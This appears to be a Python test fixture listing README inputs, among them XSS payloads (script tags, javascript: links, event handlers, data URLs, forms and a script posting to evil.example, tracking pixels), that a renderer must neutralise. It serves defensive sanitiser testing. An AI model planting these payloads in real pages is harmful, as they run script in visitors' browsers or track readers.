"""README payloads that must render inert (shared by the unit and the browser tests)."""

PAYLOADS: dict[str, str] = {
    "script": "<script>window.__xss = 'script'</script>Hello",
    "script_markdown": '# Title\n\n<script src="https://evil.example/x.js"></script>',
    "javascript_link": "[click me](javascript:window.__xss='js-link')",
    "javascript_html_link": "<a href=\"javascript:window.__xss='js-a'\">click</a>",
    "javascript_obfuscated": "<a href=\"jav&#x09;ascript:window.__xss='obf'\">click</a>",
    "event_handler": "<img src=x onerror=\"window.__xss='onerror'\">",
    "event_handler_markdown": '![x](x "a" onerror="window.__xss=\'md\'")',
    "svg": "<svg onload=\"window.__xss='svg'\"><script>window.__xss='svg-script'</script></svg>",
    "svg_image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=">',
    "data_url_link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "iframe": "<iframe src=\"javascript:window.__xss='iframe'\"></iframe>",
    "style": '<style>body{display:none}</style><p style="position:fixed">styled</p>',
    "form": '<form action="https://evil.example"><input name=p><button formaction="javascript:x">go</button></form>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "object": '<object data="javascript:alert(1)"></object><embed src="x.swf">',
    # Images on a host the producer controls would tell the producer who reads the page.
    "external_image": "![tracking pixel](https://tracker.example/pixel.png?v=md)\n\n"
    '<p align="center"><img src="https://tracker.example/raw.png?v=html" alt="raw logo"></p>\n\n'
    "[![build](https://tracker.example/badge.svg?v=badge)](https://github.com/xss/payloads)",
}
TRACKER_HOST = "tracker.example"
"""The host of the ``external_image`` payload's images: the browser must never ask it."""
